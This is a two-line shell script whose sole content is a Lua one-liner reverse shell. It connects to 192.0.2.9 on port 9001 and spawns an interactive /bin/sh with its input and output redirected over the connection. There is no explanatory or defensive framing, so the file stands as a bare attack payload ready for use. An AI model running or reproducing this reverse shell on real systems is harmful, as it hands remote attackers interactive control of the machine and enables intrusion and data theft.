#!/bin/sh
lua -e 'local s=require("socket").tcp();s:connect("192.0.2.9",9001);os.execute("/bin/sh -i <&3 >&3 2>&3")'
